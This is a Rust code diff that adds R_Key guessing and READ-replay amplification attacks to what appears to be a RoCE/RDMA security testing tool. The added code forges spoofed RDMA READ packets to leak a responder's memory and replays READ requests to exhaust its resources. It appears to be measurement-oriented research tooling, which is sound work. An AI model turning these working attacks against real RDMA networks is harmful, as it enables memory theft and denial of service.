@@ -28,8 +28,35 @@ pub enum AttackKind {
     /// one live QP answers with a PSN-sequence-error NAK (rxe's QPNs start at 0x11 and count
     /// up; uroce's are random in 24 bits).
     QpnScan,
+    /// R_Key guessing (ReDMArk's first attack): one-packet READs of the sniffed VA from the
+    /// requester's full identity at the responder's expected PSN, each with a guessed R_Key
+    /// (`--guess`). A right key sends the responder's memory toward the requester, where the
+    /// attacker's mirror port sees it; a wrong one gets a remote-access-error NAK and ends the
+    /// connection (§9.7.5.2.4: the responder QP to ERR), so a connection gives the attacker about
+    /// one guess.
+    RkeyGuess,
+    /// Resource exhaustion by replay: the latest READ request seen, sent again and again
+    /// (`--count`, one per `--probe-us`): duplicates the responder may execute again
+    /// (§9.7.5.1.3), each sending the READ's bytes toward the requester. Reported: the READ
+    /// response bytes beyond what the requester asked for, per byte the attacker sent.
+    ReadReplay,
     /// Only watch: the QPNs and R_Keys seen, for prediction.
     Observe,
+}
+
+/// How `rkey-guess` picks its keys.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
+#[value(rename_all = "kebab-case")]
+pub enum Guess {
+    /// `--rkey-from`, then one up each time.
+    Sequential,
+    /// Uniform in 32 bits.
+    Random,
+    /// From the keys of earlier connections' regions (`--seen`): the bits they fix
+    /// ([`attack::predict_rkey`]), the rest at random.
+    Predict,
+    /// The R_Key sniffed off this connection: what a right guess gets.
+    Sniffed,
 }
 
 /// `uroce attack`'s flags.
@@ -45,21 +72,40 @@ pub struct AttackArgs {
     #[arg(long, value_enum, default_value = "full")]
     spoof: Spoof,
     /// Frames to send (kill-qp default 4096, nak-flood 100000, nak-on-path 256, psn-guess
-    /// 100000; qpn-scan: QPNs to try, default 4096).
+    /// 100000, rkey-guess 4096 at most, read-replay 1000; qpn-scan: QPNs to try, default 4096).
     #[arg(long)]
     count: Option<u64>,
     /// qpn-scan: the first QPN tried (rxe's first is 0x11).
     #[arg(long, default_value = "0x11", value_parser = parse_qpn)]
     from: u32,
-    /// qpn-scan: µs to wait for NAKs after each batch of 16 probes.
+    /// qpn-scan: µs to wait for NAKs after each batch of 16 probes; read-replay: µs between
+    /// replays.
     #[arg(long, default_value_t = 2000)]
     probe_us: u64,
+    /// rkey-guess: how the keys are picked.
+    #[arg(long, value_enum, default_value = "random")]
+    guess: Guess,
+    /// rkey-guess --guess sequential: the first key.
+    #[arg(long, default_value = "0x100", value_parser = parse_key)]
+    rkey_from: u32,
+    /// rkey-guess --guess predict: R_Keys seen on earlier connections to the same responder,
+    /// oldest first (`uroce attack observe` prints them).
+    #[arg(long, value_delimiter = ',', value_parser = parse_key)]
+    seen: Vec<u32>,
     /// Seconds to wait for a connection to learn.
     #[arg(long, default_value_t = 20)]
     learn_timeout: u64,
     /// Milliseconds to watch the connection after the attack before judging it.
     #[arg(long, default_value_t = 500)]
     watch_ms: u64,
+}
+
+fn parse_key(v: &str) -> Result<u32, String> {
+    match v.strip_prefix("0x") {
+        Some(h) => u32::from_str_radix(h, 16),
+        None => v.parse(),
+    }
+    .map_err(|_| format!("`{v}` is not a 32-bit key"))
 }
 
 fn parse_qpn(v: &str) -> Result<u32, String> {
@@ -110,6 +156,9 @@ pub fn run(a: &AttackArgs) -> Result<ExitCode> {
     let mut sent = 0u64;
     // qpn-scan: (the QPN that answered, QPNs tried)
     let mut scan: Option<(Option<u32>, u32)> = None;
+    // the kind's own report, appended to the outcome line, and an outcome it decides itself
+    let mut extra = String::new();
+    let mut decided: Option<&str> = None;
     let t0 = Instant::now();
     match a.kind {
         AttackKind::KillQp => {
@@ -260,6 +309,117 @@ pub fn run(a: &AttackArgs) -> Result<ExitCode> {
             }
             scan = Some((found, q - a.from));
         }
+        AttackKind::RkeyGuess => {
+            let reth = learner.l.reth.context("no RETH seen: the connection carries no WRITE or READ")?;
+            let pred = match a.guess {
+                Guess::Predict => attack::predict_rkey(&a.seen),
+                Guess::Sniffed => attack::RkeyPrediction { base: reth.rkey, mask: !0 },
+                Guess::Sequential | Guess::Random => attack::RkeyPrediction::NONE,
+            };
+            let mut rng = crate::fuzz::Rng::new(t0.elapsed().as_nanos() as u64 ^ u64::from(std::process::id()));
+            let (mut next, mut by_psn) = (a.rkey_from, std::collections::HashMap::new());
+            let fatal_before = learner.l.last_nak.clone();
+            let leaked = |l: &Learner, by_psn: &std::collections::HashMap<u32, u32>| {
+                l.l.read_only_responses.iter().rev().find_map(|p| by_psn.get(&p.value()).copied())
+            };
+            let (mut landed, mut leak) = (None, None);
+            for i in 0..a.count.unwrap_or(4096) {
+                // one READ per 10 µs, each aimed afresh at or just ahead of the requester's
+                // next PSN (where the responder's expected PSN is when it arrives)
+                let until = Instant::now() + Duration::from_micros(10);
+                while Instant::now() < until {
+                    drain(&sock, &mut learner, &mut buf)?;
+                }
+                if let Some(k) = leaked(&learner, &by_psn) {
+                    (landed, leak) = (Some(k), Some(k));
+                    break;
+                }
+                if let Some((p, kind)) = learner.l.last_nak.clone().filter(|n| Some(n) != fatal_before.as_ref()) {
+                    if kind == "RemoteAccessError" || kind == "InvalidRequest" {
+                        landed = by_psn.get(&p.value()).copied();
+                        break;
+                    }
+                }
+                let key = match a.guess {
+                    Guess::Sequential => {
+                        next = next.wrapping_add(1);
+                        next.wrapping_sub(1)
+                    }
+                    _ => pred.candidate(rng.next_u64() as u32),
+                };
+                let psn = learner.l.psn.expect("ready").add(1 + (i % 32) as u32);
+                let ext = ExtHeaders {
+                    reth: Some(RethRepr { va: reth.va, rkey: key, dma_len: 64 }),
+                    ..ExtHeaders::default()
+                };
+                let f = attack::forge((req.mac, req.sport), &req, &resp, Opcode::RC_RDMA_READ_REQUEST, psn, ext, &[]);
+                learner.sent(&f);
+                sock.send(&f)?;
+                by_psn.insert(psn.value(), key);
+                sent += 1;
+            }
+            // a response may trail the last guess
+            if leak.is_none() {
+                settle(&sock, &mut learner, &mut buf, Duration::from_millis(50))?;
+                leak = leaked(&learner, &by_psn);
+                landed = leak.or(landed);
+            }
+            let distinct: std::collections::HashSet<u32> = by_psn.values().copied().collect();
+            if leak.is_some() {
+                decided = Some("leaked");
+            }
+            extra = format!(
+                " guess={:?} predicted={:#x}/{:#x} unknown_bits={} keys_tried={} landed_rkey={} sniffed_rkey={:#x} \
+                 leaked_bytes={}",
+                a.guess,
+                pred.base & pred.mask,
+                pred.mask,
+                pred.unknown_bits(),
+                distinct.len(),
+                landed.map_or("-".to_string(), |k| format!("{k:#x}")),
+                reth.rkey,
+                if leak.is_some() { 64 } else { 0 },
+            );
+        }
+        AttackKind::ReadReplay => {
+            if learner.l.read_request.is_none() {
+                attack::watch(&sock, &mut learner, Duration::from_secs(2))?;
+            }
+            learner.l.read_request.as_ref().context("no READ request seen: the connection carries no READ")?;
+            // (first PSN, DMA length) of each READ replayed
+            let mut replayed = std::collections::BTreeMap::new();
+            let mut attacker_bytes = 0u64;
+            for _ in 0..a.count.unwrap_or(1000) {
+                let until = Instant::now() + Duration::from_micros(a.probe_us.min(1_000_000));
+                while Instant::now() < until {
+                    drain(&sock, &mut learner, &mut buf)?;
+                }
+                // the latest READ: the responder still holds its resources, as it holds the
+                // last max_dest_rd_atomic READs (rxe drops a duplicate it has no resource for)
+                let f = learner.l.read_request.clone().expect("seen");
+                if let Ok(p) = uroce_wire::parse_frame(&f) {
+                    replayed.insert(p.roce.bth.psn.value(), p.roce.ext.reth.map_or(0, |r| r.dma_len));
+                }
+                learner.sent(&f);
+                sock.send(&f)?;
+                attacker_bytes += f.len() as u64;
+                sent += 1;
+            }
+            settle(&sock, &mut learner, &mut buf, Duration::from_millis(200))?;
+            // each replayed READ was answered once for the requester; the rest is the replay's
+            let (mut again, mut answered) = (0u64, 0u64);
+            for (psn, len) in &replayed {
+                let got = learner.l.reads.get(psn).map_or(0, |r| r.1);
+                answered += u64::from(got > 0);
+                again += got.saturating_sub(u64::from(*len));
+            }
+            extra = format!(
+                " attacker_bytes={attacker_bytes} reads_replayed={} reads_answered={answered} replayed_bytes_sent={again} \
+                 amplification={:.1}",
+                replayed.len(),
+                again as f64 / attacker_bytes.max(1) as f64
+            );
+        }
         AttackKind::Observe => {}
     }
     let attack_time = t0.elapsed();
@@ -274,6 +434,8 @@ pub fn run(a: &AttackArgs) -> Result<ExitCode> {
     let naks: Vec<String> = l.naks.iter().map(|(k, v)| format!("{k}={v}")).collect();
     let outcome = if a.kind == AttackKind::Observe {
         "observed"
+    } else if let Some(d) = decided {
+        d
     } else if let Some((found, _)) = scan {
         if found.is_some() {
             "found"
@@ -288,7 +450,7 @@ pub fn run(a: &AttackArgs) -> Result<ExitCode> {
     println!(
         "uroce-attack: kind={:?} spoof={:?} sent={sent} in_ms={} outcome={outcome} requests_after={moved_req} \
          acks_after={moved_ack} during=({}/{}) responder_naks=[{}] requester={}:{:#x} qp={:#08x} \
-         responder={}:{:#x} qp={:#08x} qpns_seen={:?} rkeys_seen={:x?}{}",
+         responder={}:{:#x} qp={:#08x} qpns_seen={:?} rkeys_seen={:x?}{}{extra}",
         a.kind,
         a.spoof,
         attack_time.as_millis(),
